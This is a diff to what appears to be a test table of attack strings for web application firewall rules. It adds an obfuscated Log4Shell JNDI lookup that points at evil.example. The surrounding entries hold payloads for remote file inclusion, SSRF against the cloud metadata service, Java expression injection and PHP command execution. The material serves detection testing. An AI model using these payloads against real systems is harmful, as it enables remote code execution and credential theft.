@@ -34,6 +34,7 @@ const ATTACKS: readonly (readonly [prefix: RegExp, text: string])[] = [
   [/^GenericRFI_/, "http://203.0.113.7/shell.txt?"],
   [/^EC2MetaDataSSRF_/, "http://0xa9fea9fe/latest/meta-data/"],
   [/^Log4JRCE_/, "${${lower:j}ndi:ldap://evil.example/a}"],
+  [/^Log4JRCE_/, "${${date:'j'}n${date:'d'}${DATE:'i'}:ldap://evil.example/a}"],
   [/^JavaDeserializationRCE_/, "${T(java.lang.Runtime).getRuntime().exec('id')}"],
   [/^PHPHighRiskMethodsVariables_/, "<?php system('id'); ?>"],
 ];
